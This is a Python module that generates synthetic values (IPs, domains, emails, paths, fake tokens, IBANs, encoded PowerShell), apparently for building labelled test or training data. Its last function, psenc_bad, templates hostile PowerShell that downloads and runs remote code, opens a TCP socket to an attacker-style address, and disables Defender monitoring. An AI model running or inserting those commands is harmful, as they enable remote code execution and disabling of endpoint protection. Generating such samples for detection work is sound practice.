"""Pools (data/vocab.txt) and makers of hosts, addresses, paths, secrets."""
import base64
import pathlib
import string

POOL = {}
for _f in ("vocab.txt", "lang.txt"):
    _p = pathlib.Path(__file__).parent / "data" / _f
    _k = None
    for _l in _p.read_text(encoding="utf-8").splitlines():
        if _l.startswith("[") and _l.endswith("]") and " " not in _l:
            _k = _l[1:-1]
            POOL.setdefault(_k, [])
        elif _l.strip():
            if _l.rstrip().endswith(" |"):
                _l = _l.rstrip()[:-2]
                POOL[_k].append("")
            POOL[_k] += [x.strip() for x in _l.split(" | ")] if " | " in _l else [_l.strip()]
MAKE = {}


def maker(f):
    MAKE[f.__name__.rstrip("_")] = f
    return f


def make(name, rng):
    if name in MAKE:
        return str(MAKE[name](rng))
    return rng.choice(POOL[name])


def P(r, k):
    return r.choice(POOL[k])


def _al(r, n, a=string.ascii_lowercase + string.digits):
    return "".join(r.choice(a) for _ in range(n))


@maker
def ip(r):
    k = r.random()
    if k < .3: return f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1,255)}"
    if k < .5: return f"192.168.{r.randrange(256)}.{r.randrange(1,255)}"
    if k < .6: return f"172.{r.randrange(16,32)}.{r.randrange(256)}.{r.randrange(1,255)}"
    return f"{r.choice([23,31,34,45,51,62,78,81,89,91,94,103,104,138,141,157,167,176,185,188,193,203,212])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1,255)}"


@maker
def domain(r):
    k = r.random()
    t = P(r, "tld")
    if k < .4: return P(r, "word") + r.choice(["-", "", ""]) + P(r, "word2") + "." + t
    if k < .7: return P(r, "company").lower().replace(" ", r.choice(["-", ""])) + "." + t
    if k < .85: return P(r, "word") + "." + t
    return P(r, "last").lower() + r.choice(["-", ""]) + P(r, "word2") + "." + t


@maker
def host(r):
    k = r.random()
    if k < .22: return ip(r)
    if k < .5: return domain(r)
    if k < .8: return P(r, "sub") + "." + domain(r)
    if k < .9: return P(r, "word") + "-" + _al(r, r.choice([4, 6, 8])) + "." + P(r, "platform")
    return P(r, "sub") + "-" + str(r.randrange(1, 40)) + "." + P(r, "intdom")


@maker
def dhost(r):
    while True:
        h = host(r)
        if not h[0].isdigit(): return h


@maker
def hostport(r):
    return host(r) + (":" + port(r) if r.random() < .5 else "")


@maker
def port(r):
    return str(r.choice([22, 53, 80, 443, 1337, 2222, 3000, 3306, 4242, 4444, 5000, 5432, 6379, 8000, 8080, 8443, 8888, 9000, 9001, 9090, 9200, 9999, 27017, r.randrange(1024, 65000)]))


@maker
def user(r):
    f, l = P(r, "first").lower(), P(r, "last").lower()
    return r.choice([f, f[0] + l, f + "." + l, "dev", "ubuntu", "deploy", "ec2-user", "admin", "runner", f, f[0] + l])


@maker
def name(r): return P(r, "first") + " " + P(r, "last")


@maker
def email(r):
    f, l = P(r, "first").lower(), P(r, "last").lower()
    loc = r.choice([f + "." + l, f[0] + l, f, f + l + str(r.randrange(10, 99)), f + "_" + l, f + "." + l, P(r, "mailbox"), l + str(r.randrange(1970, 2005))])
    return loc + "@" + (P(r, "freemail") if r.random() < .3 else domain(r))


@maker
def workmail(r):
    f, l = P(r, "first").lower(), P(r, "last").lower()
    return r.choice([f + "." + l, f, f[0] + l, P(r, "mailbox")]) + "@" + domain(r)


@maker
def privmail(r):
    f, l = P(r, "first").lower(), P(r, "last").lower()
    return r.choice([f + "." + l, f + l + str(r.randrange(10, 99)), f[0] + l, P(r, "word") + str(r.randrange(100, 9999))]) + "@" + P(r, "freemail")


@maker
def home(r):
    u = user(r)
    return r.choice(["~", "~", "$HOME", "/home/" + u, "/home/" + u, "/Users/" + u, "/root"])


@maker
def winhome(r):
    u = user(r)
    return r.choice(["C:\\Users\\" + u, "C:\\Users\\" + P(r, "first"), "%USERPROFILE%", "$env:USERPROFILE"])


@maker
def proj(r):
    return r.choice([P(r, "word") + "-" + P(r, "projsuf"), P(r, "project"), P(r, "word") + "_" + P(r, "projsuf"), P(r, "project")])


@maker
def projdir(r):
    return r.choice(["~/", "/home/" + user(r) + "/", "/Users/" + user(r) + "/", "/srv/", "/opt/", "/workspace/", "/work/", "./", ""]) + r.choice(["", "src/", "code/", "git/", "projects/"]) + proj(r)


@maker
def windir(r):
    return r.choice(["C:\\", "D:\\", "C:\\Users\\" + user(r) + "\\"]) + r.choice(["Projects\\", "src\\", "work\\", "dev\\", "Data\\"]) + proj(r)


@maker
def tmp(r):
    b = r.choice([P(r, "word"), P(r, "fileword"), "." + P(r, "word"), _al(r, 6), P(r, "word") + str(r.randrange(100))])
    return r.choice(["/tmp/", "/tmp/", "/var/tmp/", "/dev/shm/", "./", "~/.cache/"]) + b


@maker
def wintmp(r):
    return r.choice(["$env:TEMP\\", "%TEMP%\\", "C:\\Windows\\Temp\\", "C:\\Temp\\", "C:\\ProgramData\\", "C:\\Users\\Public\\"]) + r.choice([P(r, "word"), P(r, "fileword")])


@maker
def ver(r): return f"{r.randrange(0,9)}.{r.randrange(0,30)}.{r.randrange(0,20)}"


@maker
def num(r): return str(r.randrange(2, 500))


@maker
def small(r): return str(r.randrange(2, 20))


@maker
def ticket(r): return P(r, "tickp") + "-" + str(r.randrange(10, 9999))


@maker
def date(r):
    return r.choice(["{y}-{m:02}-{d:02}", "{d}.{m}.{y}", "{m}/{d}/{y}"]).format(y=r.randrange(2023, 2027), m=r.randrange(1, 13), d=r.randrange(1, 29))


@maker
def isodate(r): return f"{r.randrange(2024,2027)}-{r.randrange(1,13):02}-{r.randrange(1,29):02}"


@maker
def time(r): return f"{r.randrange(0,24):02}:{r.choice([0,0,15,30,45]):02}"


@maker
def hex6(r): return _al(r, 6, "0123456789abcdef")


@maker
def hex12(r): return _al(r, 12, "0123456789abcdef")


@maker
def hex40(r): return _al(r, 40, "0123456789abcdef")


@maker
def uuid(r): return "-".join(_al(r, n, "0123456789abcdef") for n in (8, 4, 4, 4, 12))


@maker
def id_(r): return _al(r, r.choice([6, 8, 10]))


@maker
def b64(r): return base64.b64encode(bytes(r.randrange(256) for _ in range(r.randrange(18, 60)))).decode()


@maker
def pw(r):
    return r.choice([P(r, "word").title() + r.choice("!#@$_-") + str(r.randrange(1990, 2030)), _al(r, r.randrange(8, 16), string.ascii_letters + string.digits + "!#%&*"), P(r, "word") + P(r, "word2") + str(r.randrange(100))])


@maker
def keyval(r):
    A = string.ascii_letters + string.digits
    return r.choice([lambda: "AKIA" + _al(r, 16, string.ascii_uppercase + string.digits), lambda: "ghp_" + _al(r, 36, A), lambda: "sk-" + _al(r, 40, A), lambda: "xoxb-" + _al(r, 11, string.digits) + "-" + _al(r, 24, A), lambda: "glpat-" + _al(r, 20, A), lambda: _al(r, 32, "0123456789abcdef"), lambda: _al(r, 40, A), lambda: "eyJhbGciOiJIUzI1NiJ9." + _al(r, 40, A) + "." + _al(r, 30, A), lambda: pw(r), lambda: "npm_" + _al(r, 36, A)])()


@maker
def phkey(r):
    """placeholder for a secret"""
    return r.choice(["changeme", "<your-key>", "xxxxxxxx", "${" + P(r, "secretenv") + "}", "$" + P(r, "secretenv"), "{{ " + P(r, "secretenv").lower() + " }}", "REPLACE_ME", "dummy", "test", "your-token-here", "********"])


@maker
def money(r):
    return r.choice(["€", "$", "£", ""]) + r.choice([f"{r.randrange(100,99999):,}", f"{r.randrange(100,9999)}.{r.randrange(100):02}", f"{r.randrange(1,90)}k"])


@maker
def iban(r): return r.choice(["DE", "GB", "LT", "CY", "FR", "NL", "ES", "PL"]) + "".join(r.choice(string.digits) for _ in range(20))


@maker
def url(r): return r.choice(["https://", "https://", "http://"]) + hostport(r)


@maker
def seg(r): return "/".join(r.choice([P(r, "word"), P(r, "pathword"), _al(r, 6), P(r, "pathword")]) for _ in range(r.randrange(1, 4)))


@maker
def link(r): return url(r) + "/" + seg(r)


@maker
def srcfile(r):
    return r.choice(["src/", "lib/", "pkg/", "app/", "internal/", "tests/", "cmd/", "", "server/", "web/", "core/"]) + r.choice(["", P(r, "word") + "/"]) + P(r, "fileword") + r.choice(["", "_" + P(r, "fileword")]) + P(r, "ext")


@maker
def docfile(r):
    return P(r, "bizfile") + r.choice(["", "_" + str(r.randrange(2020, 2027)), "-" + P(r, "month"), "_v" + str(r.randrange(1, 9)), "_final"]) + P(r, "docext")


@maker
def cidr(r): return r.choice(["10.%d.0.0/16", "192.168.%d.0/24", "172.16.%d.0/24"]) % r.randrange(256)


@maker
def octal(r): return r.choice(["640", "644", "600", "755", "750", "700", "664"])


@maker
def digit(r): return str(r.randrange(10))


def psenc(s): return base64.b64encode(s.encode("utf-16le")).decode()


@maker
def psenc_ok(r):
    return psenc(r.choice(["Get-Service | Where-Object Status -eq Running", "Write-Host 'build " + num(r) + " done'", "Get-ChildItem C:\\" + P(r, "word") + " -Recurse", "Import-Module ." + "\\" + P(r, "word") + ".psm1; Invoke-" + P(r, "word").title(), "Start-Sleep " + small(r) + "; Get-Process " + P(r, "project")]))


@maker
def psenc_bad(r):
    return psenc(r.choice(["IEX(New-Object Net.WebClient).DownloadString('" + link(r) + "')", "iwr " + link(r) + " -OutFile $env:TEMP\\" + P(r, "word") + ".exe; & $env:TEMP\\" + P(r, "word") + ".exe", "$c=New-Object Net.Sockets.TCPClient('" + ip(r) + "'," + port(r) + ")", "Set-MpPreference -DisableRealtimeMonitoring $true"]))
